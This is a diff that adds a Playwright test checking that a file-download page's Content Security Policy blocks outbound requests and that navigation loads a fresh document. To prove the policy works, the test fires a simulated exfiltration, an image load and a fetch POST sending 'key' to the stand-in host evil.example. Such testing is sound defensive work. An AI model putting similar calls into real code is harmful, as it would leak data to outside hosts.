@@ -111,3 +111,33 @@ test("no page violates its Content Security Policy, from its first byte to its d
   }
   expect(violations).toEqual([]);
 });
+
+test("a link's page sends nothing to another site, and the page after it is a document of its own", async ({
+  page,
+  expectErrors,
+}) => {
+  const violations = await collectViolations(page);
+  await signUp(page);
+  const link = await uploadByApi(page, { name: "a.txt", type: "text/plain", body: "text" });
+  await page.goto(`/download/${link}`);
+  await page.waitForLoadState("networkidle");
+  expect(violations).toEqual([]);
+  // A request that the policy stops is still told as one that failed.
+  expectErrors(/Content Security Policy|evil\.example/);
+  await page.evaluate(() => {
+    new Image().src = "https://evil.example/?key";
+    void fetch("https://evil.example/", { method: "POST", body: "key" }).catch(() => null);
+  });
+  await expect
+    .poll(() => new Set(violations.map((violation) => violation.split(" ")[1])))
+    .toEqual(new Set(["img-src", "connect-src"]));
+  await page.evaluate(() => Reflect.set(window, "isOld", true));
+  await page.getByRole("contentinfo").getByRole("link", { name: "Pricing" }).click();
+  await expect(page).toHaveURL("/pricing");
+  expect(await page.evaluate(() => Reflect.get(window, "isOld") as unknown)).toBeUndefined();
+  await page.waitForLoadState("networkidle");
+  await page.evaluate(() => Reflect.set(window, "isOld", true));
+  await page.getByRole("contentinfo").getByRole("link", { name: "Features" }).click();
+  await expect(page).toHaveURL("/features");
+  expect(await page.evaluate(() => Reflect.get(window, "isOld") as unknown)).toBe(true);
+});
